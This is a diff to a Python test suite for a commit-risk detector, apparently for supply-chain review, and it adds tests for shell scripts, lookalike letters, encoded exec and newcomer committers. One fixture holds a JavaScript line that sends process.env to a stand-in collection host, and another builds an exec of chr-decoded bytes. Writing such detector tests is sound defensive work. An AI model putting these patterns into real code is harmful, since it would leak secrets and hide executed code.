@@ -11,7 +11,7 @@ from trustdrift.features.signs import columns_of
 from trustdrift.features.vectors import describe_commits
 
 from ..conftest import KEY
-from ..repositories import DAY, FOUNDER, NEWCOMER, START, Repository
+from ..repositories import DAY, FOUNDER, HELPERS, NEWCOMER, START, Repository
 
 EXFILTRATION = b"const t = process.env\nfetch('https://collect.example/' + atob(t))\n"
 
@@ -110,12 +110,48 @@ def test_tests_and_documentation_are_not_code(repository: Repository) -> None:
     )  # fmt: skip
     last = values_of(repository).iloc[-1]
     assert last[["network", "secrets", "urls", "capabilities_new_to_project"]].eq(0).all()
+    assert (last["capabilities_in_one_file"], last["capabilities_in_one_test"]) == (0, 3)
     assert last["added_bytes"] == 3 * len(EXFILTRATION)
 
 
 def test_a_script_without_an_ending_is_code_if_it_can_be_run(repository: Repository) -> None:
     repository.commit({"run": b"curl x\n", "notes": b"curl x\n"}, modes={"run": "100755"})
     assert values_of(repository)["network"].iloc[-1] == 1
+
+
+def test_programs_of_other_shells_are_code_and_files_of_no_kind_are_told_apart(
+    repository: Repository,
+) -> None:
+    repository.commit({"push.bat": b"curl x\n", ".cache": b"curl x\n", "a.md": b"curl x\n"})
+    last = values_of(repository).iloc[-1]
+    assert (last["network"], last["reach_of_unknown_files"]) == (1, 1)
+
+
+def test_letters_of_two_scripts_and_characters_as_numbers_are_told(repository: Repository) -> None:
+    quiet_past(repository)
+    numbers = ", ".join(str(byte) for byte in b"import os\n" * 7)
+    program = f"t = 'p\u0430ypal'\nexec(''.join(chr(n) for n in [{numbers}]))\n"
+    repository.commit({"lib/part0.py": program.encode()}, time=START + 90 * DAY)
+    values = values_of(repository)
+    last = values.iloc[-1]
+    assert (last["lookalikes"], last["encoded_runs"], last["decoding_with_running"]) == (1, 1, 1)
+    assert shown(values) >= {"letters_of_two_scripts", "hard_to_read", "decodes_and_runs"}
+
+
+def test_who_passes_a_newcomers_work_on_may_be_new_as_well(repository: Repository) -> None:
+    old, late = START, START + 3 * 365 * DAY
+    repository.commit({"a.c": b"1\n"}, author=FOUNDER, time=old)
+    for day, (author, committer) in enumerate(
+        [(HELPERS[0], HELPERS[0]), (NEWCOMER, FOUNDER), (NEWCOMER, HELPERS[0])]
+    ):
+        repository.commit(
+            {"a.c": b"%d\n" % (day + 2)}, author=author, committer=committer,
+            time=late + day * DAY,
+        )  # fmt: skip
+    values = values_of(repository)
+    assert values["committers_tenure"].fillna(-1).tolist() == [-1, -1, 3 * 365 + 1, 2]
+    assert "newcomers_among_themselves" in shown(values)
+    assert "newcomers_among_themselves" not in shown(values.iloc[:-1])
 
 
 def test_install_hooks_and_hidden_text_are_told(repository: Repository) -> None:
